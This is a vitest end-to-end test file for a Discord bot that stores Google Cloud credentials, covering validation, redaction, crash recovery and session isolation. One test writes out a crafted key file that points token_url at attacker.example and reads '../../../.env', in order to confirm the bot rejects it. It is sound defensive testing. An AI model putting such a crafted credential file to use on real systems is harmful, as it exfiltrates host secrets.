import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { stopAllBots } from '../harness/bot-process.js';
import { GCP_KEY } from '../support/credentials.js';
import { GOOD_INIT, GUILD, INTRUDER, OWNER, createFakeDiscord, installation, openSession, runCommand, startInstallation, textOf } from '../support/e2e.js';

const fake = createFakeDiscord();
beforeAll(() => fake.start());
afterEach(() => stopAllBots());
afterAll(() => fake.stop());

async function uploadCredentials(content: string, options: { project_id?: string } = {}, user = OWNER) {
  const file = fake.hostFile('key.json', content);
  const interaction = await fake.sendSlashCommand({
    name: 'cloud-upload-credentials', user, guildId: GUILD,
    options: [{ name: 'file', type: 11, value: file.id }, ...Object.entries(options).map(([name, value]) => ({ name, type: 3, value }))],
    attachments: [file],
  });
  return fake.waitForReply(interaction);
}

describe('/cloud-upload-credentials and /cloud-status', () => {
  it('stores validated credentials in the session, never echoing them, and status shows it', async () => {
    await startInstallation(fake, installation());
    await openSession(fake);
    expect(textOf(await runCommand(fake, 'cloud-status'))).toMatch(/Credentials\n— none/);

    const reply = await uploadCredentials(JSON.stringify(GCP_KEY));
    expect(reply.ephemeral).toBe(true);
    expect(textOf(reply)).toContain('Google Cloud credentials stored for `payments-prod-42`');
    expect(textOf(reply)).not.toMatch(/TOP-SECRET|deployer@/);

    const status = await runCommand(fake, 'cloud-status');
    expect(status.ephemeral).toBe(true);
    expect(textOf(status)).toMatch(/Payments API[\s\S]*Time left\n(29|30) minutes[\s\S]*Credentials\n✅ stored[\s\S]*Deployments\nNone yet/);
  });

  it('refuses a file that is not valid for the session provider, naming the problem', async () => {
    await startInstallation(fake, installation());
    await openSession(fake);
    const reply = await uploadCredentials(JSON.stringify({ AccessKeyId: 'AKIAIOSFODNN7EXAMPLE', SecretAccessKey: 'TOP-SECRET' }));
    expect(textOf(reply)).toContain('These look like AWS credentials, but this session is for Google Cloud.');
    expect(textOf(reply)).not.toContain('TOP-SECRET');
  });

  it('refuses a key file crafted to make Google read a host file, on every path credentials come in', async () => {
    await startInstallation(fake, installation());
    const crafted = JSON.stringify({
      ...GCP_KEY, Type: 'external_account', audience: 'x', subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
      token_url: 'https://attacker.example/sts', credential_source: { file: '../../../.env' },
    });
    const init = await runCommand(fake, 'cloud-init', { ...GOOD_INIT, service_account_json: crafted });
    expect(textOf(init)).toMatch(/Google Cloud credentials are not usable: `Type` repeats a key in another letter case/);
    await openSession(fake);
    const upload = textOf(await uploadCredentials(crafted));
    expect(upload).toMatch(/not usable: `Type` repeats a key/);
    expect(upload).not.toMatch(/attacker|\.env|TOP-SECRET/);
    expect(textOf(await runCommand(fake, 'cloud-status'))).toMatch(/Credentials\n— none/);
  });

  it('keeps uploaded credentials across a crash and recovery', async () => {
    const install = installation();
    const bot = await startInstallation(fake, install);
    const sessionId = await openSession(fake);
    await uploadCredentials(JSON.stringify(GCP_KEY));
    await bot.kill('SIGKILL');
    await startInstallation(fake, install);
    await runCommand(fake, 'cloud-recover-session', { session_id: sessionId });
    expect(textOf(await runCommand(fake, 'cloud-status'))).toMatch(/Credentials\n✅ stored/);
  });

  it("points a user without a session to /cloud-init, and never shows one user a teammate's session", async () => {
    await startInstallation(fake, installation());
    await openSession(fake);
    const upload = await uploadCredentials(JSON.stringify(GCP_KEY), {}, INTRUDER);
    expect(textOf(upload)).toContain('You have no live cloud session in this server. Start one with `/cloud-init`');
    const status = await runCommand(fake, 'cloud-status', {}, { user: INTRUDER });
    expect(textOf(status)).toContain('You have no live cloud session in this server');
    expect(textOf(status)).not.toContain('payments-prod-42');
  });

  it('asks which project when the user has several sessions', async () => {
    await startInstallation(fake, installation());
    await openSession(fake);
    await openSession(fake, { project_id: 'billing-prod-7', project_name: 'Billing' });
    expect(textOf(await uploadCredentials(JSON.stringify(GCP_KEY)))).toMatch(/several projects .*`payments-prod-42`, `billing-prod-7`.*project_id/);
    expect(textOf(await uploadCredentials(JSON.stringify(GCP_KEY), { project_id: 'billing-prod-7' }))).toContain('stored for `billing-prod-7`');
  });
});
